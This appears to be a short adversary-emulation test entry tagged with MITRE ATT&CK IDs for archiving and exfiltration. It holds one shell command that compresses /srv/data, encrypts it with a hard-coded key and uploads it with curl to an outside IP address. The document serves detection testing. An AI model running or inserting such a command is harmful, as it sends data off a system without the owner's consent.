# title: An archive is encrypted and sent
# technique: T1048.001 T1560.001
# needs: openssl curl

tar cz /srv/data 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -k x | curl -s -T - http://192.88.99.7/u
